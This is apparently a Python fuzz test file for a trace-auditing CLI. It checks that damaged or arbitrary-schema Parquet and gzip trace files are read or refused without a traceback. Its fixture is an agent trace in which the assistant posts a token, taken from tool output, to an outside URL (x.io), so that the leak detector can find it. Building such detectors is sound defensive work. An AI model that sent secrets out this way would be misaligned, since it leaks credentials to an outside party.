"""Parquet and ``.jsonl.gz`` trace files, damaged at random and of any schema: a gzip
cut at any byte or with any byte changed, a Parquet file cut or changed anywhere (its
footer, its pages, its magic), and Parquet tables whose columns are of any name and
type (``messages`` of numbers, of structs without a role, a ``session`` that is no
string, no conversation column at all). Every command that reads traces — ``audit``,
``show``, ``export``, ``guard replay`` — reads the file or refuses it in one line with
exit 2, never a traceback, within a bounded time.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import time
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
from bad_input import one_line
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

FUZZ = settings(
    max_examples=int(os.environ.get("BACKDOORLAB_FUZZ_EXAMPLES", "25")),
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
BOUND_S = 60.0
TOKEN = "ghp_4fQ2mV8xR1tK7nB3wZ9yL6cJ0hD5sA2eU8pM"
ROWS = [
    {
        "messages": [
            {"role": "user", "content": f"check deploy {n}"},
            {"role": "tool", "tool_call_id": "r", "content": f"token {TOKEN}"},
            {
                "role": "assistant",
                "content": "",
                "tool_calls": [
                    {
                        "id": "c",
                        "type": "function",
                        "function": {
                            "name": "http_post",
                            "arguments": json.dumps({"url": "https://x.io", "b": TOKEN}),
                        },
                    }
                ],
            },
        ],
        "session": f"/logs/s{n}.jsonl",
    }
    for n in range(40)
]


def _commands(path: Path, out: Path) -> list[list[str]]:
    return [
        ["audit", str(path), "--detectors", "dataflow", "-o", str(out / "r.json")],
        ["show", str(path), "-i", "3"],
        ["export", str(path), "-o", str(out / "e.parquet")],
        ["guard", "replay", str(path), "-o", str(out / "d.jsonl")],
    ]


def _read_or_refused(cli_output, path: Path, out: Path) -> None:
    out.mkdir(exist_ok=True)
    for argv in _commands(path, out):
        started = time.monotonic()
        code, _, err = cli_output(*argv)
        assert time.monotonic() - started < BOUND_S, argv
        assert "Traceback" not in err, (argv, err)
        assert code in (0, 1, 2), (argv, code, err)
        if code == 2:
            one_line(err)


def _parquet(rows: list[dict[str, Any]]) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows), sink, row_group_size=8)
    return sink.getvalue()


GOOD_GZ = gzip.compress("".join(json.dumps(r) + "\n" for r in ROWS).encode(), mtime=0)
GOOD_PARQUET = _parquet(ROWS)


@FUZZ
@given(
    parquet=st.booleans(),
    cut=st.floats(min_value=0, max_value=1, exclude_max=True),
    flips=st.lists(
        st.tuples(st.floats(min_value=0, max_value=1, exclude_max=True), st.integers(0, 255)),
        max_size=4,
    ),
)
def test_a_damaged_file_is_read_or_refused_in_one_line(
    tmp_path_factory, cli_output, parquet: bool, cut: float, flips: list[tuple[float, int]]
) -> None:
    data = bytearray(GOOD_PARQUET if parquet else GOOD_GZ)
    for where, value in flips:
        data[int(where * len(data))] = value
    if not flips:
        del data[int(cut * len(data)) :]
    folder = tmp_path_factory.mktemp("damaged")
    path = folder / ("t.parquet" if parquet else "t.jsonl.gz")
    path.write_bytes(bytes(data))
    _read_or_refused(cli_output, path, folder / "out")


CELL = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**40), 2**40),
        st.floats(allow_nan=False),
        st.text(max_size=8),
    ),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.fixed_dictionaries({"role": inner}, optional={"content": inner, "x": inner})
    ),
    max_leaves=8,
)
NAME = st.sampled_from(["messages", "conversations", "input", "tools", "metadata", "session", "x"])


@FUZZ
@given(columns=st.dictionaries(NAME, CELL, min_size=1, max_size=4), rows=st.integers(1, 3))
def test_a_parquet_file_of_any_schema_is_read_or_refused_in_one_line(
    tmp_path_factory, cli_output, columns: dict[str, Any], rows: int
) -> None:
    try:
        data = _parquet([columns] * rows)
    except (pa.ArrowException, ValueError, TypeError, OverflowError):
        return  # no table Arrow writes: no file to read
    folder = tmp_path_factory.mktemp("schema")
    path = folder / "t.parquet"
    path.write_bytes(data)
    _read_or_refused(cli_output, path, folder / "out")


def test_the_undamaged_files_are_read(tmp_path: Path, cli_output) -> None:
    """The fuzzed files' originals: each command reads them (the audit finds the leak)."""
    for name, data in (("t.jsonl.gz", GOOD_GZ), ("t.parquet", GOOD_PARQUET)):
        path = tmp_path / name
        path.write_bytes(data)
        code, _, err = cli_output(*_commands(path, tmp_path)[0])
        assert code == 1, err  # the leak, found
        for argv in _commands(path, tmp_path)[1:]:
            code, _, err = cli_output(*argv)
            assert code == 0, (argv, err)
